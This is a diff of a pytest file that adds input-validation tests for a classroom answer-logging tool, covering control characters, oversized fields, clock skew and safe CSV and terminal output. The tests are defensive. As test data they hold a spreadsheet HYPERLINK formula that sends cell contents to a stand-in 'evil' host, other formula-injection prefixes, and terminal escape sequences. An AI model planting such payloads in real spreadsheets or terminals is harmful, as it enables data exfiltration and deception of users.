@@ -1,5 +1,6 @@
 """What a class has answered is counted right, whatever happens to the files."""
 
+import csv
 import json
 import subprocess
 import sys
@@ -107,7 +108,10 @@ def test_other_endings_are_refused(tmp_path, name):
         al.record_answers(tmp_path / name)
 
 
-@pytest.mark.parametrize("name", ["", "  ", "a\nb", 3])
+NO_NAMES = ["", "  ", "a\nb", "a\tb", "\x1b[2J", "x\u202ey", "\ud800", "\u00ad", "a\u2028b", "\u200d", "x" * 101]
+
+
+@pytest.mark.parametrize("name", [*NO_NAMES, 3])
 def test_names_that_are_none_are_refused(tmp_path, name):
     with pytest.raises(ValueError, match="one line"):
         al.record_answers(tmp_path / "a.jsonl", name=name)
@@ -184,6 +188,89 @@ def test_a_line_edited_by_hand_is_named_with_file_and_line(tmp_path, written, sa
     (folder / "answers.jsonl").write_text(f"{line()}\n\n{written}\n", encoding="utf-8")
     with pytest.raises(ValueError, match="maria/answers.jsonl, line 3: .*" + said):
         al.collect_answers(tmp_path)
+
+
+@pytest.mark.parametrize("field", ["name", "version", "session", "exercise"])
+@pytest.mark.parametrize("text", [*NO_NAMES, "x" * 10_000])
+def test_the_rules_of_names_hold_for_what_is_read_too(tmp_path, field, text):
+    (tmp_path / "a.jsonl").write_text(line(**{field: text}), encoding="utf-8")
+    with pytest.raises(ValueError, match=f"a.jsonl, line 1: {field} is .*was it edited") as told:
+        al.collect_answers(tmp_path)
+    assert len(str(told.value)) < 300 and str(told.value).isprintable()
+
+
+@pytest.mark.parametrize("name", ["Ana", "José Ñ. d'Ávila-Souza", "Ана", "陳大文", "نیلی\u200cفر", "17", "=1+1"])
+def test_names_of_people_are_kept_as_they_are(tmp_path, name):
+    al.record_answers(tmp_path / "a.jsonl", name=f" {name} ")
+    al.check("test.1", 1)
+    assert al.collect_answers(tmp_path)["student"].tolist() == [name]
+
+
+def test_one_name_written_in_two_ways_is_one_student(tmp_path):
+    (tmp_path / "a.jsonl").write_text(line(name="Jos\u00e9"), encoding="utf-8")
+    (tmp_path / "b.jsonl").write_text(line(name=" Jose\u0301", session="t"), encoding="utf-8")
+    assert al.collect_answers(tmp_path)["attempts"].tolist() == [2]
+
+
+@pytest.mark.parametrize("attempt", [10**6 + 1, 10**4000])
+def test_a_number_of_attempts_that_nobody_has_is_refused(tmp_path, attempt):
+    (tmp_path / "a.jsonl").write_text(line(attempt=attempt), encoding="utf-8")
+    with pytest.raises(ValueError, match="don't fit together"):
+        al.collect_answers(tmp_path)
+
+
+def test_megabytes_in_a_field_are_neither_kept_nor_told(tmp_path):
+    long = line(hint="x" * 10_000_000)
+    (tmp_path / "a.jsonl").write_text(f"{line()}\n{long}\n{line(attempt=2)}", encoding="utf-8")
+    with pytest.raises(ValueError, match=r"line 2: over 16384 bytes") as told:
+        al.collect_answers(tmp_path)
+    assert len(str(told.value)) < 200
+    with pytest.warns(UserWarning, match="line 2: over"):
+        assert al.collect_answers(tmp_path, on_error="skip")["attempts"].tolist() == [2]
+
+
+def test_of_many_broken_lines_the_first_are_told_and_the_others_counted(tmp_path):
+    (tmp_path / "a.jsonl").write_text("{\n" * 500 + line(), encoding="utf-8")
+    with pytest.warns(UserWarning) as told:
+        al.collect_answers(tmp_path, on_error="skip")
+    assert len(told) == 11 and "490 more lines" in str(told[-1].message)
+
+
+def miss(**changes):
+    return line(**{"passed": False, "hint_shown": True} | changes)
+
+
+@pytest.mark.parametrize(
+    ("first", "second"),
+    [
+        ([miss(attempt=i) for i in (1, 2, 3)], [line(session="t", time="2020-01-01T00:00:00+00:00")]),  # fell back
+        ([miss(attempt=i, time="2098-01-01T00:00:00+00:00") for i in (1, 2, 3)], [line(session="t")]),  # was ahead
+        ([miss(attempt=i, time="1970-01-01T00:00:00+00:00") for i in (1, 2, 3)], [line(session="t")]),  # never set
+    ],
+)
+def test_a_clock_that_was_wrong_makes_nobody_pass_sooner(tmp_path, first, second):
+    for name, lines in (("1", first), ("2", second)):
+        (tmp_path / f"{name}.jsonl").write_text(
+            "\n".join(text.replace("}", ', "name": "Ana"}') for text in lines), encoding="utf-8")  # fmt: skip
+    (row,) = al.collect_answers(tmp_path).itertuples()
+    assert row.attempts_to_pass == row.attempts == 4 and row.passed
+
+
+def test_the_table_has_no_formulas_and_the_terminal_no_escapes(tmp_path, capsys):
+    names = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\uff1d1", "a;=1+1"]
+    for i, name in enumerate(names):
+        (tmp_path / f"{i}.jsonl").write_text(line(name=name, version="=2+2", exercise="-x.1"), encoding="utf-8")
+    (tmp_path / "=3 \x1b[2J\u202e.jsonl").write_text(line(), encoding="utf-8")
+    (tmp_path / "bad\x1b]0;owned\x07.jsonl").write_text("{", encoding="utf-8")
+    with pytest.warns(UserWarning) as told:
+        classroom.main([str(tmp_path), "--csv", str(tmp_path / "out.csv"), "--skip"])
+    assert all(str(each.message).isprintable() for each in told)
+    assert capsys.readouterr().out.replace("\n", "").isprintable()
+    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert len(cells) == 8 * (len(names) + 2)
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))]
+    assert {"'=2+2", "'-x.1", "'+1", "'=3 \\x1b[2J\\u202e"} <= set(cells)
 
 
 def test_a_file_of_another_kind_is_named(tmp_path):
